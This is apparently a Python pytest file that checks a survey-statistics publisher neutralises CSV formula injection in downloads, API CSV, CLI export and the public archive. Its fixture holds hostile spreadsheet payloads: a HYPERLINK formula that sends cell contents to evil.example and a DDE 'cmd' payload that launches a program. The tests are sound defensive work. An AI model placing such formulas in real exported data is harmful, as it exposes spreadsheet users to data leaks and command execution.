"""CSV formula injection (issue #16, item 3): text an agency submits comes back neutralised in every
CSV a person may open in a spreadsheet: downloads, the API's CSV, `servicestat export` and the
immutable public archive. JSON and Parquet keep the text as it was loaded.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from ingest.loader import load
from ingest.warehouse import initialise
from publish.workflow import publish_loaded

HEADER = ("service_id,channel,touchpoint,fiscal_year,quarter,question_number,question_text,driver,"
          "count_1,count_2,count_3,count_4,count_5")
ATTACKS = {
    "touchpoint": '=HYPERLINK("http://evil.example/"&A1,"Click")',
    "question_text": "=cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def published(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("formula")
    db = initialise(folder / "warehouse.duckdb")
    rows = [HEADER,
            f'dos-ca,phone,"{ATTACKS["touchpoint"].replace(chr(34), chr(34) * 2)}",2024,1,1,'
            f'"{ATTACKS["question_text"]}",satisfaction,5,5,10,30,50',
            'dos-ca,phone,Plain,2024,1,2,"+SUM(1,2)",trust,10,10,20,30,30',
            'dos-ca,phone,Plain,2024,1,3,"@SUM(1,2)",effectiveness,10,10,20,30,30']
    source = folder / "survey.csv"
    source.write_text("\n".join(rows) + "\n", encoding="utf-8")
    [result] = load([source], db=db)
    assert result.status == "loaded", result.problems
    publish_loaded(db, by="test", fiscal_year=2024, quarter=1)
    return db


def _cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def test_downloads_and_api_csv_neutralise_formula_text(published: Path) -> None:
    from dashboard.app import create_app

    client = create_app(str(published), public=True).server.test_client()
    for url in ("/download/survey-scores.csv", "/api/v1/survey-scores?format=csv&limit=1000"):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _cells(response.get_data(as_text=True))
        for attack in (*ATTACKS.values(), "+SUM(1,2)", "@SUM(1,2)"):
            assert attack not in cells, (url, attack)
            assert "'" + attack in cells, (url, attack)
    # JSON keeps the text exactly as loaded: it is data, not a spreadsheet.
    rows = json.loads(client.get("/download/survey-scores.json").data)
    assert ATTACKS["touchpoint"] in {r["touchpoint"] for r in rows}


def test_cli_export_neutralises(published: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from servicestat.cli import main

    assert main(["export", "survey-scores", "--db", str(published)]) == 0
    cells = _cells(capsys.readouterr().out)
    assert "'" + ATTACKS["question_text"] in cells
    assert ATTACKS["question_text"] not in cells


def test_public_archive_neutralises(published: Path) -> None:
    archive = Path(f"{published}.archive")
    files = list(archive.glob("FY2024-Q1/v*/survey-scores.csv"))
    assert files, sorted(str(p) for p in archive.rglob("*"))[:20]
    cells = _cells(files[0].read_text(encoding="utf-8"))
    assert "'" + ATTACKS["touchpoint"] in cells
    assert ATTACKS["touchpoint"] not in cells
